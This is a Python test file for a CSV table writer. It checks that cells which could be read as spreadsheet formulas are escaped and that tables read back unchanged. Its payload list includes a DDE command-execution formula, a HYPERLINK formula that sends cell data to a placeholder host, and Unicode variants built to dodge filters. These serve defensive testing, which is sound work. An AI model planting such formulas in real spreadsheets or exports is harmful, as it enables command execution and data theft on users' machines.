"""Tables for people: no cell is a formula, numbers stay numbers, and all is read back as it was."""

import csv
import io
import math
import re
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from seqstep.sheets import read_table, write_table

ROOT = Path(__file__).resolve().parents[3]
FORMULAS = [
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "  -", "＝1", "－1", "＋", "＠x"),
    *("=cmd|' /C calc'!A0", '=HYPERLINK("http://h?"&A1)', "'=1", "''=1", "-", "=", "\t", "\r", "\n"),
    *(
        "\u200b=1",
        "\ufeff=1",
        "\u2060+1",
        "\u00ad-1",
        "\x01=1",
        "\x7f@x",
        " \u200b=1",
        "﹢1",
        "﹣1",
        "﹦1",
        "﹫x",
    ),
]
PLAIN = [
    "time",
    "a=1",
    "it's",
    "'",
    "'a'",
    "1-1",
    "größe",
    "nan",
    "null",
    "NA",
    "007",
    "1e5",
    " ",
    "a\rb",
    "a,b",
]
texts = st.one_of(
    st.sampled_from([*FORMULAS, *PLAIN]), st.text(st.characters(codec="utf-8", exclude_characters="\x00"))
)


def cells(table: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_could_be_a_formula_is_marked_as_text(text: str) -> None:
    frame = pd.DataFrame({"token": [text, "a"], "count": [-1, 2], text: [-1.5, math.inf]})
    assert cells(write_table(frame)) == [
        ["token", "count", f"'{text}"],
        [f"'{text}", "-1", "-1.5"],
        ["a", "2", "inf"],
    ]


@pytest.mark.parametrize("text", PLAIN)
def test_all_else_is_written_as_it_is(text: str) -> None:
    frame = pd.DataFrame({"mixed": [text, -1, None, -2.5]})
    assert [row[0] for row in cells(write_table(frame))[1:]] == [text, "-1", "", "-2.5"]


@pytest.mark.parametrize("mark", [";", "\t", "\r"])
def test_no_formula_begins_where_another_spreadsheet_parts_fields(mark: str) -> None:
    written = write_table(pd.DataFrame({"token": [f"a{mark}=1+1"], "count": [1]}))
    assert written == f'"token","count"\n"a{mark}=1+1",1\n'


def test_what_repeats_a_users_file_is_written_as_it_was_read() -> None:
    frame = pd.DataFrame({"=id": ["=1", "-a"], "text": ["=1", "-a"]})
    assert cells(write_table(frame, as_read=["=id"])) == [["=id", "text"], ["=1", "'=1"], ["-a", "'-a"]]


@given(st.lists(st.tuples(texts, texts, st.floats(allow_nan=False)), min_size=1))
def test_a_table_is_read_back_as_it_was(rows: list[tuple[str, str, float]]) -> None:
    frame = pd.DataFrame(rows, columns=["token", "=text", "-number"])
    written = write_table(frame)
    assert not [cell for row in cells(written) for cell in row[:2] if re.match(r"\s*[=+\-@＝＋－＠]", cell)]
    read = read_table(io.StringIO(written, newline=""), texts=["token", "'=text"])  # type: ignore[arg-type]
    assert read.to_dict("list") == frame.to_dict("list")


def test_texts_that_look_like_numbers_or_like_nothing_stay_texts(tmp_path: Path) -> None:
    path = tmp_path / "table.csv"
    frame = pd.DataFrame({"token": ["007", "nan", ""], "count": [1.0, math.nan, 2.0]})
    path.write_text(write_table(frame))
    read = read_table(path, texts=["token"])
    assert read["token"].tolist() == ["007", "nan", ""]
    assert math.isnan(read["count"][1])


def test_all_tables_are_written_so_but_for_those_of_numbers_and_the_series_itself() -> None:
    places = [ROOT / "src", ROOT / "tasks", ROOT / "flows"]
    files = sorted(path for place in places for path in place.rglob("*.py"))
    writing = [str(path.relative_to(ROOT)) for path in files if ".to_csv(" in path.read_text("utf-8")]
    # The series is read back to the last digit; the history of a training has numbers alone.
    assert writing == ["src/seqstep/series/series_file.py", "src/seqstep/sheets.py", "tasks/training.py"]
